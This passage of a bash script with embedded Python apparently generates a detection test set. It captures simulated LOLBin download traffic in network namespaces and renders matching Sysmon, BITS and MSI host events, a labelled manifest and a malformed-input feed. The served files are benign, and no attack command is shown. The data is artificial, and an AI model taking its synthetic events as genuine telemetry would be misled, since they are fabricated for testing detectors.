    """OTRF 2023 flat export (otrf_lsass01_sysmon_subset.jsonl): lower-case GUIDs, compact JSON,
    UTF-8 as is."""
    level, task, kw = level_task_keywords(e)
    d = collections.OrderedDict()
    d["SourceName"] = e.src[0]
    if e.src[1]:
        d["ProviderGuid"] = e.src[1].lower()
    d["Level"], d["Keywords"], d["Channel"], d["Hostname"] = level, kw, e.src[2], h.computer
    d["TimeCreated"] = d["@timestamp"] = fmt_iso(e.written_ns, 3)
    d["EventID"] = e.eid
    d["Message"] = lower_guids(message(e))
    d["Task"] = task
    for k, v in data_items(e):
        d[k] = lower_guids(v) if e.src != MSI else v
    return json.dumps(d, ensure_ascii=False, separators=(",", ":"))


def render_xml(h, e):
    """One-line EvtRender XML as Splunk stores it (XmlWinEventLog): single-quoted attributes,
    TimeCreated with 7 fraction digits, GUIDs in upper case."""
    level, task, kw = level_task_keywords(e)
    a = lambda v: escape(v, {"'": "&apos;"})
    s = ["<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"]
    if e.src[1]:
        s.append("<Provider Name='%s' Guid='%s'/>" % (e.src[0], e.src[1].upper()))
    else:
        s.append("<Provider Name='%s'/>" % e.src[0])
    if e.src == MSI:
        s.append("<EventID Qualifiers='0'>%d</EventID><Level>%s</Level><Task>%s</Task><Keywords>%s</Keywords>"
                 % (e.eid, level, task, kw))
    else:
        version = SYSMON_VERSION[e.eid] if e.src == SYSMON else e.sys["version"]
        opcode = 0 if e.src == SYSMON else e.sys["opcode"]
        s.append("<EventID>%d</EventID><Version>%d</Version><Level>%s</Level><Task>%s</Task><Opcode>%d</Opcode>"
                 "<Keywords>%s</Keywords>" % (e.eid, version, level, task, opcode, kw))
    s.append("<TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID>" % (fmt_iso(e.written_ns, 7), e.record))
    if e.src != MSI:
        act = e.sys.get("activity")
        s.append("<Correlation ActivityID='%s'/>" % act.upper() if act else "<Correlation/>")
        s.append("<Execution ProcessID='%d' ThreadID='%d'/>" % e.execution)
    s.append("<Channel>%s</Channel><Computer>%s</Computer><Security UserID='%s'/></System><EventData>"
             % (e.src[2], escape(h.computer), e.sys.get("sid", "S-1-5-18")))
    for k, v in e.data:
        v = upper_guids(v) if e.src != MSI else v
        if k is None:
            s.append("<Data>%s</Data>" % escape(v) if v else "<Data/>")
        else:
            s.append("<Data Name='%s'>%s</Data>" % (a(k), escape(v)) if v else "<Data Name='%s'/>" % a(k))
    s.append("</EventData></Event>")
    return "".join(s)


def render_ecs(h, e):
    """Winlogbeat + ingest pipeline, ECS (otrf_lsass01_sysmon_subset.ecs-synth.jsonl): @timestamp
    from UtcTime (Sysmon) or TimeCreated (others) with 3 fraction digits, lower-case GUIDs, values
    "", "-" dropped, Python's default JSON separators and \\u escapes."""
    d = collections.OrderedDict()
    raw = collections.OrderedDict((k, lower_guids(v) if e.src != MSI else v) for k, v in data_items(e))
    if e.src != SYSMON:
        d["@timestamp"] = fmt_iso(e.written_ns, 3)
        d["event"] = {"code": str(e.eid), "kind": "event", "provider": e.src[0]}
        d["host"] = {"name": h.computer}
        w = collections.OrderedDict([("channel", e.src[2]), ("computer_name", h.computer),
                                     ("event_id", str(e.eid)), ("provider_name", e.src[0])])
        if e.src[1]:
            w["provider_guid"] = e.src[1].lower()
        w["event_data"] = {k: v for k, v in raw.items() if v not in ("", "-")}
        d["winlog"] = w
        return json.dumps(d)
    utc = raw["UtcTime"]
    d["@timestamp"] = utc.replace(" ", "T") + "Z"
    d["event"] = {"code": str(e.eid), "module": "sysmon", "kind": "event", "provider": e.src[0]}
    d["host"] = {"name": h.computer}
    mapped = {"RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "User"}
    mapped |= {1: {"CommandLine", "Hashes", "ParentProcessGuid", "ParentProcessId", "ParentImage",
                   "ParentCommandLine"},
               3: set(SYSMON_FIELDS[3]), 11: {"TargetFilename"}, 15: {"TargetFilename", "Hash"},
               22: set(SYSMON_FIELDS[22])}[e.eid]
    d["winlog"] = collections.OrderedDict([
        ("channel", e.src[2]), ("computer_name", h.computer), ("event_id", str(e.eid)),
        ("provider_name", e.src[0]), ("provider_guid", e.src[1].lower()),
        ("event_data", {k: v for k, v in raw.items() if k not in mapped and v not in ("", "-")})])

    def hashes(s):
        hs = dict(kv.split("=", 1) for kv in s.split(","))
        return collections.OrderedDict([("sha1", hs["SHA1"].lower()), ("md5", hs["MD5"].lower()),
                                        ("sha256", hs["SHA256"].lower())])
    if e.eid == 22:
        answers, ips = [], []
        for part in filter(None, raw["QueryResults"].split(";")):
            if part.startswith("type:"):
                answers.append({"type": "CNAME", "data": part.split()[-1]})
            else:
                ip = part.replace("::ffff:", "")
                answers.append({"type": "A", "data": ip})
                ips.append(ip)
        d["dns"] = collections.OrderedDict([("question", {"name": raw["QueryName"]}), ("answers", answers),
                                            ("resolved_ip", ips)])
    if e.eid in (11, 15):
        f = collections.OrderedDict([("path", raw["TargetFilename"])])
        if e.eid == 15:
            f["hash"] = hashes(raw["Hash"])
        d["file"] = f
    dom, _, name = raw["User"].partition("\\")
    d["user"] = {"domain": dom, "name": name}
    if e.eid == 3:
        d["network"] = {"transport": raw["Protocol"], "direction": "egress" if raw["Initiated"] == "true" else "ingress",
                        "community_id": community_id(raw["SourceIp"], raw["DestinationIp"],
                                                     int(raw["SourcePort"]), int(raw["DestinationPort"]))}
        d["source"] = {"ip": raw["SourceIp"], "port": int(raw["SourcePort"])}
        d["destination"] = {"ip": raw["DestinationIp"], "port": int(raw["DestinationPort"])}
    pr = collections.OrderedDict([("entity_id", raw["ProcessGuid"]), ("pid", int(raw["ProcessId"])),
                                  ("executable", raw["Image"]), ("name", raw["Image"].rsplit("\\", 1)[1])])
    if e.eid == 1:
        pr["command_line"] = raw["CommandLine"]
        pr["hash"] = hashes(raw["Hashes"])
        pr["parent"] = collections.OrderedDict([
            ("entity_id", raw["ParentProcessGuid"]), ("pid", int(raw["ParentProcessId"])),
            ("executable", raw["ParentImage"]), ("command_line", raw["ParentCommandLine"])])
    d["process"] = pr
    return json.dumps(d)


TMPDIR = "."
GARBAGE_VALID = 20


def garbage_feed(ecs_lines):
    """20 valid ECS events with 7 garbage lines between them; returns (bytes, garbage count)."""
    ev = [l.encode() for l in ecs_lines[:GARBAGE_VALID]]
    rnd = random.Random("hostev-garbage")
    binary = bytes(b for b in rnd.randbytes(96) if b not in (0x0A, 0x0D)) + b"\x00\xff\xfe\x80"
    big = b'{"@timestamp": "2024-01-01T00:00:00.000Z", "message": "' + b"A" * (100 * 1024) + b'"'
    garbage = {
        2: ev[2][:len(ev[2]) // 2],                                    # truncated JSON
        5: binary,                                                     # binary bytes, NUL, invalid UTF-8
        8: b"",                                                        # empty line
        11: b'["WS-ALICE", 3, null, {"event": {"code": "3"}}]',         # a JSON array
        14: b'{"type": "heartbeat", "agent": {"name": "WS-ALICE"}, "status": "ok"}',   # not an event
        17: big,                                                       # 100 KB, unterminated string
    }
    out = []
    for i, line in enumerate(ev):
        if i in garbage:
            out.append(garbage[i])
        out.append(line)
    tail = ev[0][:len(ev[0]) * 2 // 3]                                 # truncated at EOF, no newline
    return b"\n".join(out) + b"\n" + tail, len(garbage) + 1


MANIFEST_COLS = ("capture client_ip host method server_name uri user_agent process_image process_pid "
                 "process_guid parent_image command_line expect description").split()


def events(tmp, pcapdir, outdir):
    global TMPDIR
    TMPDIR = tmp
    manifest = ["\t".join(MANIFEST_COLS)]
    alice_ecs = None
    for h in HOSTS:
        conns = capture_conns(os.path.join(pcapdir, h.capture))
        hl = HostLog(h, conns)
        for fl, cs in match_flows(h, conns):
            hl.flow(fl, cs)
        evs = hl.finish()
        flat = [render_flat(h, e) for e in evs]
        ecs = [render_ecs(h, e) for e in evs]
        xml = [render_xml(h, e) for e in evs]
        for ext, lines in (("flat.jsonl", flat), ("ecs.jsonl", ecs), ("splunk.xml", xml)):
            with open(os.path.join(outdir, "%s.%s" % (h.name, ext)), "w", encoding="utf-8", newline="\n") as f:
                f.write("\n".join(lines) + "\n")
        if h.tag == "alice":
            alice_ecs = ecs
        for x, c, p in hl.rows:
            desc = x.desc
            manifest.append("\t".join([
                h.capture, h.ip, h.name, x.method, x.host, x.uri, "-" if x.method == "TLS" else x.ua, p.image, str(p.pid), p.guid.lower(),
                p.parent.image, p.cmdline, x.expect, desc]))
    data, n = garbage_feed(alice_ecs)
    with open(os.path.join(outdir, "garbage.jsonl"), "wb") as f:
        f.write(data)
    with open(os.path.join(outdir, "manifest.tsv"), "w", newline="\n") as f:
        f.write("\n".join(manifest) + "\n")
    print(n)


# --------------------------------------------------------------------------- validate
def parse_flat(line):
    d = json.loads(line)
    src = d["SourceName"]
    skip = {"SourceName", "ProviderGuid", "Level", "Keywords", "Channel", "Hostname", "TimeCreated",
            "@timestamp", "EventID", "Message", "Task"}
    return (src, d["EventID"], d["Hostname"],
            tuple((k, lower_guids(v)) for k, v in d.items() if k not in skip))


def parse_xml(line):
    ns = "{http://schemas.microsoft.com/win/2004/08/events/event}"
    root = ET.fromstring(line)
    sysn = root.find(ns + "System")
    src = sysn.find(ns + "Provider").get("Name")
    eid = int(sysn.find(ns + "EventID").text)
    comp = sysn.find(ns + "Computer").text
    items = []
    for i, dn in enumerate(root.find(ns + "EventData")):
        items.append((dn.get("Name") or "param%d" % (i + 1), lower_guids(dn.text or "")))
    return src, eid, comp, tuple(items)


def ecs_back(d):
    """The Sysmon fields an ECS event still carries, as Sysmon's names (for the cross-check)."""
    out = {}
    p = d.get("process", {})
    if "entity_id" in p:
        out.update(ProcessGuid=p["entity_id"], ProcessId=str(p["pid"]), Image=p["executable"])
    if "source" in d:
        out.update(SourceIp=d["source"]["ip"], SourcePort=str(d["source"]["port"]),
                   DestinationIp=d["destination"]["ip"], DestinationPort=str(d["destination"]["port"]))
    if "file" in d:
        out["TargetFilename"] = d["file"]["path"]
    if "dns" in d:
        out["QueryName"] = d["dns"]["question"]["name"]
    if "command_line" in p:
        out.update(CommandLine=p["command_line"], ParentImage=p["parent"]["executable"],
                   ParentProcessGuid=p["parent"]["entity_id"])
    out.update(d["winlog"]["event_data"])
    return out


def validate(tmp, pcapdir, outdir):
    global TMPDIR
    TMPDIR = tmp
    bad = []

    def check(what, cond, detail=""):
        if cond:
            print("  ok    " + what)
        else:
            print("  FAIL  %s %s" % (what, detail))
            bad.append(what)

    rows = [dict(zip(MANIFEST_COLS, l.rstrip("\n").split("\t")))
            for l in open(os.path.join(outdir, "manifest.tsv"), encoding="utf-8").readlines()[1:]]
    check("manifest: %d rows, every row has %d columns" % (len(rows), len(MANIFEST_COLS)),
          all(None not in r.values() and len(r) == len(MANIFEST_COLS) for r in rows))
    keys = [(r["client_ip"], r["method"], r["server_name"], r["uri"], r["user_agent"]) for r in rows]
    for h in HOSTS:
        print(h.name)
        conns = capture_conns(os.path.join(pcapdir, h.capture))
        flat = [l for l in open(os.path.join(outdir, h.name + ".flat.jsonl"), encoding="utf-8").read().split("\n") if l]
        ecs = [l for l in open(os.path.join(outdir, h.name + ".ecs.jsonl"), encoding="utf-8").read().split("\n") if l]
        xml = [l for l in open(os.path.join(outdir, h.name + ".splunk.xml"), encoding="utf-8").read().split("\n") if l]
        try:
            pf = [parse_flat(l) for l in flat]
            ok_json = all(isinstance(json.loads(l), dict) for l in ecs)
        except ValueError as e:
            pf, ok_json = [], False
            print("  JSON error: %s" % e)
        check("every JSON line parses (%d flat, %d ECS)" % (len(flat), len(ecs)), bool(pf) and ok_json)
        try:
            px = [parse_xml(l) for l in xml]
        except ET.ParseError as e:
            px = []
            print("  XML error: %s" % e)
        check("every XML line is well-formed (%d)" % len(xml), len(px) == len(xml) and px)
        check("the three files hold the same number of events", len(flat) == len(ecs) == len(xml))
        check("flat and XML hold the same events, field by field (GUIDs compared case-insensitively)",
              [(s, e, c, f) for s, e, c, f in pf] == [(s, e, c, f) for s, e, c, f in px])
        ed = [json.loads(l) for l in ecs]
        same = True
        for (src, eid, comp, fields), d in zip(pf, ed):
            back = ecs_back(d)
            full = dict(fields)
            if str(eid) != d["winlog"]["event_id"] or comp != d["host"]["name"]:
                same = False
            for k, v in back.items():
                if full.get(k) != v:
                    same = False
                    print("    ECS %s %s=%r, flat %r" % (eid, k, v, full.get(k)))
        check("every ECS event carries the flat event's values", same)
        ucase = all(not re.search(r"\{[0-9A-Fa-f-]*[a-f][0-9A-Fa-f-]*\}", l) for l in xml)
        lcase = all(not re.search(r"\{[0-9a-f-]*[A-F][0-9a-fA-F-]*\}", l) for l in flat + ecs)
        check("GUIDs upper-case in the XML, lower-case in both JSON forms", ucase and lcase)
        s3 = [dict(f) for s, e, c, f in pf if s == SYSMON[0] and e == 3]
        got = sorted((d["SourceIp"], int(d["SourcePort"]), d["DestinationIp"], int(d["DestinationPort"])) for d in s3)
        want = sorted((c["cip"], c["cport"], c["sip"], c["sport"]) for c in conns)
        check("EID 3 5-tuples (ephemeral ports) = the %d TCP connections in %s" % (len(want), h.capture),
              got == want, "\n got %r\n want %r" % (got, want))
        ecs3 = sorted((d["source"]["ip"], d["source"]["port"], d["destination"]["ip"], d["destination"]["port"])
                      for d in ed if d["winlog"]["event_id"] == "3" and "source" in d)
        check("ECS source/destination ports = the capture's", ecs3 == want)
        # Time: EID 3 UtcTime - SYN = host clock offset (+ <= 15 ms jitter).
        syn = {(c["cip"], c["cport"]): c["syn_ns"] for c in conns}
        deltas = []
        for d in s3:
            t = datetime.datetime.strptime(d["UtcTime"], "%Y-%m-%d %H:%M:%S.%f").replace(tzinfo=datetime.timezone.utc)
            deltas.append(t.timestamp() - syn[(d["SourceIp"], int(d["SourcePort"]))] / 1e9)
        check("EID 3 UtcTime - SYN time within [%+d s, %+d s + 16 ms]" % (h.offset, h.offset),
              all(h.offset - 0.001 <= x <= h.offset + 0.016 for x in deltas),
              "%r" % [round(x, 4) for x in deltas])
        utc_ok = all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}", dict(f)["UtcTime"])
                     for s, e, c, f in pf if s == SYSMON[0])
        ts_ok = all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", d["@timestamp"]) for d in ed)
        st_ok = all(re.search(r"SystemTime='\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z'", l) for l in xml)
        check("time formats: UtcTime .SSS, ECS @timestamp .SSSZ, XML SystemTime 7 digits", utc_ok and ts_ok and st_ok)
        # Every manifest row: the EID 3 of its connection names the row's process, whose EID 1
        # has the row's command line and parent.
        byguid = {dict(f)["ProcessGuid"]: dict(f) for s, e, c, f in pf if s == SYSMON[0] and e == 1}
        hrows = [r for r in rows if r["client_ip"] == h.ip]
        req_conn = {}
        for c in conns:
            for (m, host, uri, ua) in c["requests"]:
                req_conn.setdefault((m, host, uri, ua), c)
            if c["sni"]:
                req_conn[("TLS", c["sni"], "-", "-")] = c
        rows_ok = True
        for r in hrows:
            c = req_conn.get((r["method"], r["server_name"], r["uri"], r["user_agent"]))
            e3 = [d for d in s3 if c and int(d["SourcePort"]) == c["cport"]]
            p1 = byguid.get(r["process_guid"])
            if not (c and len(e3) == 1 and e3[0]["ProcessGuid"] == r["process_guid"]
                    and e3[0]["ProcessId"] == r["process_pid"] and e3[0]["Image"] == r["process_image"]
                    and p1 and p1["CommandLine"] == r["command_line"] and p1["ParentImage"] == r["parent_image"]):
                rows_ok = False
                print("    row %s %s%s does not match its EID 3 / EID 1" % (r["method"], r["server_name"], r["uri"]))
        check("every manifest row (%d) = its connection's EID 3 process and that process's EID 1" % len(hrows),
              rows_ok and len(hrows) == sum(len(fl.txs()) for fl in flows_of(h)))
        # Hash joins: EID 15 main-stream SHA256 = the body tshark exports; HostUrl = the URL.
        eo = os.path.join(tmp, "eo-val-" + h.tag)
        subprocess.run(["rm", "-rf", eo])
        os.makedirs(eo)
        tshark(os.path.join(pcapdir, h.capture), "-q", "--export-objects", "http," + eo)
        exported = {sha(open(os.path.join(eo, f), "rb").read()).upper() for f in os.listdir(eo)}
        e15 = [dict(f) for s, e, c, f in pf if s == SYSMON[0] and e == 15]
        mains = [d for d in e15 if not d["TargetFilename"].endswith(":Zone.Identifier")]
        zis = [d for d in e15 if d["TargetFilename"].endswith(":Zone.Identifier")]
        check("EID 15 main-stream SHA256 = a body in the capture (%d)" % len(mains),
              mains and all(re.search(r"SHA256=([0-9A-F]{64})", d["Hash"]).group(1) in exported for d in mains))
        urls = {"http://%s%s" % (r["server_name"], r["uri"]) for r in hrows}
        check("EID 15 Zone.Identifier HostUrl = a URL in the capture (%d)" % len(zis),
              zis and all(re.search(r"HostUrl=(\S+)", d["Contents"]).group(1) in urls for d in zis))
        msi = [f for s, e, c, f in pf if s == "MsiInstaller"]
        check("MsiInstaller 1040/1042 name the msiexec URL (%d)" % len(msi),
              len(msi) == 2 and all(dict(f)["param1"] in urls for f in msi))
        bits = [dict(f) for s, e, c, f in pf if s == BITS[0] and e in (59, 60)]
        check("BITS-Client 59/60 name the BITS URL (%d)" % len(bits), len(bits) == 2 and all(d["url"] in urls for d in bits))
    # Rows unique.
    check("manifest rows unique by (client_ip, method, server_name, uri, user_agent)", len(set(keys)) == len(keys))
    # Garbage feed.
    raw = open(os.path.join(outdir, "garbage.jsonl"), "rb").read()
    lines = raw.split(b"\n")
    valid = 0
    alice = open(os.path.join(outdir, "WS-ALICE.ecs.jsonl"), "rb").read().split(b"\n")[:GARBAGE_VALID]
    for l in lines:
        try:
            d = json.loads(l.decode("utf-8"))
            if isinstance(d, dict) and "@timestamp" in d and "winlog" in d:
                valid += 1
        except (UnicodeDecodeError, ValueError):
            pass
    check("garbage.jsonl: %d lines, %d valid ECS events (the first 20 of WS-ALICE.ecs.jsonl, in order), %d garbage"
          % (len(lines), valid, len(lines) - valid),
          valid == GARBAGE_VALID and [l for l in lines if l in alice] == alice and len(lines) - valid == 7
          and max(len(l) for l in lines) > 100 * 1024 and not raw.endswith(b"\n"))
    return not bad


def summary(outdir):
    rows = [dict(zip(MANIFEST_COLS, l.rstrip("\n").split("\t")))
            for l in open(os.path.join(outdir, "manifest.tsv"), encoding="utf-8").readlines()[1:]]
    for h in HOSTS:
        c = collections.Counter(r["expect"] for r in rows if r["capture"] == h.capture)
        print("  %-18s rows: %d lolbin / %d decoy / %d context" % (h.capture, c[L], c[D], c[CX]))
    for h in HOSTS:
        evs = [json.loads(l) for l in open(os.path.join(outdir, h.name + ".flat.jsonl"), encoding="utf-8")]
        c = collections.Counter(("Sysmon" if e["SourceName"] == SYSMON[0] else
                                 "BITS" if e["SourceName"] == BITS[0] else "Msi") + " %d" % e["EventID"] for e in evs)
        print("  %-9s %3d events per file: %s" % (h.name, len(evs), ", ".join(
            "%s x%d" % (k, c[k]) for k in sorted(c, key=lambda k: (k.split()[0] != "Sysmon", k.split()[0], int(k.split()[1]))))))


if __name__ == "__main__":
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "check-table":
        sys.exit(0 if check_table() else 1)
    elif cmd == "build":
        build(*args)
    elif cmd == "rsa-key":
        rsa_key(*args)
    elif cmd == "hosts":
        for h in HOSTS:
            print("%s\t%s\t%s" % (h.tag, h.name, h.ip))
    elif cmd == "tls-names":
        print("\n".join(sorted({x.host for h in HOSTS for fl in flows_of(h) for x in fl.txs() if x.method == "TLS"})))
    elif cmd == "serve":
        serve(*args)
    elif cmd == "run":
        run(*args)
    elif cmd == "verify":
        sys.exit(0 if verify(*args) else 1)
    elif cmd == "events":
        events(*args)
    elif cmd == "validate":
        sys.exit(0 if validate(*args) else 1)
    elif cmd == "summary":
        summary(*args)
    else:
        sys.exit("unknown command " + cmd)
PYEOF

"$PY" "$TMP/lwe.py" check-table || die "the table in lwe.py is inconsistent"

# ---------------------------------------------------------------------------------------
# Server-side content.
# ---------------------------------------------------------------------------------------
log "building served files in $TMP"
"$PY" "$TMP/lwe.py" build "$TMP"
export TZ=UTC
has() { grep -Eq -- "$2" <<<"$1"; }

# MSIs: real Windows Installer packages built by wixl, one per host, under a stopped clock
# (`faketime -f`) with GUIDs derived from the host tag, so the bytes are reproducible.
guid() { "$PY" -c 'import sys, uuid; print(str(uuid.uuid5(uuid.NAMESPACE_URL, sys.argv[1])).upper())' "lolwire-hostev:$1"; }
while IFS=$'\t' read -r tag name _ip; do
    d="$TMP/msi-$tag"
    mkdir -p "$d"
    printf 'Example Agent for %s\r\nlolwire host-event test package.\r\n' "$name" >"$d/readme.txt"
    cat >"$d/setup.wxs" <<EOF
<?xml version="1.0" encoding="utf-8"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi">
  <Product Id="{$(guid "$tag/product")}" Name="Example Agent ($tag)" Language="1033"
           Version="2.4.0" Manufacturer="Example Soft" UpgradeCode="{$(guid "$tag/upgrade")}">
    <Package InstallerVersion="200" Compressed="yes" Description="Example Agent"
             Comments="lolwire host-event test package" />
    <Media Id="1" Cabinet="data.cab" EmbedCab="yes" />
    <Directory Id="TARGETDIR" Name="SourceDir">
      <Directory Id="ProgramFilesFolder">
        <Directory Id="INSTALLDIR" Name="ExampleAgent">
          <Component Id="MainFile" Guid="{$(guid "$tag/component")}">
            <File Id="ReadmeTxt" Name="readme.txt" Source="readme.txt" KeyPath="yes" />
          </Component>
        </Directory>
      </Directory>
    </Directory>
    <Feature Id="Complete" Level="1"><ComponentRef Id="MainFile" /></Feature>
  </Product>
</Wix>
EOF
    touch -d "$FAKETIME UTC" "$d"/*
    (
        cd "$d"
        faketime -f "$FAKETIME" wixl -o setup.msi setup.wxs
        faketime -f "$FAKETIME" msibuild setup.msi -s "Example Agent ($tag)" "Example Soft" "Intel;1033" \
            "{$(guid "$tag/package")}"
    )
    cp "$d/setup.msi" "$WWW/setup-$tag.msi"
    has "$(msiinfo suminfo "$WWW/setup-$tag.msi")" "Subject: Example Agent" || die "wixl produced an unreadable MSI"
done < <("$PY" "$TMP/lwe.py" hosts)

# The throw-away CA (RSA key from a fixed seed) and one DER CRL per host (its own CRL number),
# signed under a stopped clock: the same bytes on every run.
"$PY" "$TMP/lwe.py" rsa-key "$CA_SEED" "$CA/ca.key"
cat >"$CA/ca.cnf" <<EOF
[ req ]
distinguished_name = dn
prompt             = no
[ dn ]
[ v3_ca ]
basicConstraints       = critical, CA:true
keyUsage               = critical, keyCertSign, cRLSign, digitalSignature
subjectKeyIdentifier   = hash
[ ca ]
default_ca = test_ca
[ test_ca ]
database         = $CA/index.txt
crlnumber        = $CA/crlnumber
default_md       = sha256
default_crl_days = 30
crl_extensions   = crl_ext
[ crl_ext ]
authorityKeyIdentifier = keyid:always
EOF
printf 'R\t250101000000Z\t231215000000Z\t1001\tunknown\t/CN=revoked.example.com\n' >"$CA/index.txt"
faketime -f "$FAKETIME" openssl req -x509 -new -config "$CA/ca.cnf" -extensions v3_ca -key "$CA/ca.key" \
    -sha256 -days 3650 -set_serial 0x4C5745CA0001 -subj "$CA_SUBJECT" -out "$CA/ca.pem"
n=2000
while IFS=$'\t' read -r tag _name _ip; do
    echo "$n" >"$CA/crlnumber"
    faketime -f "$FAKETIME" openssl ca -batch -gencrl -config "$CA/ca.cnf" -keyfile "$CA/ca.key" -cert "$CA/ca.pem" \
        -out "$CA/crl-$tag.pem" 2>/dev/null
    openssl crl -in "$CA/crl-$tag.pem" -outform DER -out "$WWW/ca-$tag.crl"
    openssl crl -inform DER -in "$WWW/ca-$tag.crl" -noout 2>/dev/null || die "ca-$tag.crl is not a DER CRL"
    n=$((n + 1))
done < <("$PY" "$TMP/lwe.py" hosts)

# TLS server certificate for the PowerShell stager: self-signed P-256 (fresh on every run).
while read -r name; do
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 365 \
        -subj "/CN=$name" -addext "subjectAltName=DNS:$name" \
        -keyout "$TMP/tls/$name.key" -out "$TMP/tls/$name.crt" 2>/dev/null
done < <("$PY" "$TMP/lwe.py" tls-names)

# Identify what we serve (libmagic).
file_is() {  # file_is FILE REGEX
    has "$(file -b "$WWW/$1")" "$2" || die "$1: $(file -b "$WWW/$1"), want /$2/"
}
for f in "$WWW"/nc-*.exe "$WWW"/agent-*.exe; do file_is "${f##*/}" '^PE32\+ executable'; done
for f in "$WWW"/setup-*.msi; do file_is "${f##*/}" 'MSI Installer'; done
for f in "$WWW"/tool-*.zip; do
    file_is "${f##*/}" '^Zip archive'
    unzip -tq "$f" >/dev/null || die "bad ${f##*/}"
    ! has "$(unzip -l "$f")" '\.([Ee][Xx][Ee]|[Dd][Ll][Ll]|[Mm][Ss][Ii])' || die "${f##*/} must hold text files only"
done
for f in "$WWW"/f-*.xsl; do file_is "${f##*/}" 'XML'; done

# ---------------------------------------------------------------------------------------
# Namespaces, the veth pair, the three client addresses, the "internet" addresses.
# ---------------------------------------------------------------------------------------
lw_make_namespaces
for a in "${IP_C_MORE[@]}"; do
    ip -n "$NS_C" addr add "$a/24" dev "$IF_C"
done
for a in "${EXT_ADDRS[@]}"; do
    ip -n "$NS_S" addr add "$a/32" dev lo
    ip -n "$NS_C" route add "$a/32" via "$IP_S" dev "$IF_C"
done
[ -z "$(ip -n "$NS_C" route show default)" ] || die "$NS_C has a default route"

# ---------------------------------------------------------------------------------------
# The HTTP server (:80 on every address of lwe-server) and the HTTPS server (:443 of the TLS
# row's address), one python process, started once before the first capture.
# ---------------------------------------------------------------------------------------
ip netns exec "$NS_S" "$PY" "$TMP/lwe.py" serve "$TMP" 2>>"$TMP/server.log" &
PIDS+=($!)
for port in 80 443; do
    for _ in $(seq 100); do
        [ -n "$(ins ss -Hlnt "sport = :$port")" ] && break
        sleep 0.1
    done
    [ -n "$(ins ss -Hlnt "sport = :$port")" ] || die "nothing listening on port $port in $NS_S: $(cat "$TMP/server.log")"
done

TCPDUMP_PID=""
start_capture() {  # start_capture FILE
    ip -n "$NS_C" neigh flush dev "$IF_C"
    ip -n "$NS_S" neigh flush dev "$IF_S"
    : >"$TMP/tcpdump.log"
    ip netns exec "$NS_C" tcpdump -i "$IF_C" -w "$PC/$1" -s 0 -U -nn -Z root 2>"$TMP/tcpdump.log" &
    TCPDUMP_PID=$!
    PIDS+=("$TCPDUMP_PID")
    for _ in $(seq 100); do
        grep -q "listening on" "$TMP/tcpdump.log" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "listening on" "$TMP/tcpdump.log" || die "tcpdump did not start: $(cat "$TMP/tcpdump.log")"
    sleep 0.5
}
stop_capture() {
    sleep 1   # trailing FIN/ACKs
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || die "tcpdump exited with $?: $(cat "$TMP/tcpdump.log")"
    grep -E "packets captured" "$TMP/tcpdump.log" | sed 's/^/make-hostev-set:   tcpdump: /' >&2
}

mapfile -t TAGS < <("$PY" "$TMP/lwe.py" hosts | cut -f1)
for tag in "${TAGS[@]}"; do
    log "hostev-$tag.pcap"
    start_capture "hostev-$tag.pcap"
    "$PY" "$TMP/lwe.py" run "$tag" "$TMP" || die "$tag: a client failed (server log: $TMP/server.log)"
    stop_capture
done
[ ! -s "$TMP/server.log" ] || { log "server log:"; cat "$TMP/server.log" >&2; die "the server reported errors"; }

# ---------------------------------------------------------------------------------------
# Verify the captures, write the host events from them, validate, move into place.
# ---------------------------------------------------------------------------------------
log "verifying captures"
fail=0
for tag in "${TAGS[@]}"; do
    "$PY" "$TMP/lwe.py" verify "$tag" "$PC/hostev-$tag.pcap" "$TMP" || fail=1
done
[ "$fail" -eq 0 ] || die "capture verification failed (nothing written to $OUTDIR)"

log "writing host events"
GARBAGE_LINES="$("$PY" "$TMP/lwe.py" events "$TMP" "$PC" "$OUT")"
log "validating host events against the captures"
"$PY" "$TMP/lwe.py" validate "$TMP" "$PC" "$OUT" || die "host event validation failed (nothing written to $OUTDIR)"

for tag in "${TAGS[@]}"; do
    chmod 0644 "$PC/hostev-$tag.pcap"
    mv -f "$PC/hostev-$tag.pcap" "$OUTDIR/hostev-$tag.pcap.tmp.$$"
    mv -f "$OUTDIR/hostev-$tag.pcap.tmp.$$" "$OUTDIR/hostev-$tag.pcap"
done
chmod 0755 "$OUT"
chmod 0644 "$OUT"/*
rm -rf "$OUTDIR/hostev.tmp.$$"
mv "$OUT" "$OUTDIR/hostev.tmp.$$"
rm -rf "$OUTDIR/hostev"
mv "$OUTDIR/hostev.tmp.$$" "$OUTDIR/hostev"
log "wrote ${#TAGS[@]} captures and hostev/ ($(ls "$OUTDIR/hostev" | wc -l) files) to $OUTDIR"

# ---------------------------------------------------------------------------------------
# Summary.
# ---------------------------------------------------------------------------------------
echo
echo "Captures:"
for tag in "${TAGS[@]}"; do
    P="$OUTDIR/hostev-$tag.pcap"
    printf '  %-18s %4d packets %7d bytes\n' "hostev-$tag.pcap" \
        "$(tcpdump -nn -r "$P" 2>/dev/null | wc -l)" "$(stat -c %s "$P")"
done
echo "Manifest rows and host events:"
"$PY" "$TMP/lwe.py" summary "$OUTDIR/hostev"
echo "  garbage.jsonl: 20 valid ECS events, $GARBAGE_LINES garbage lines"
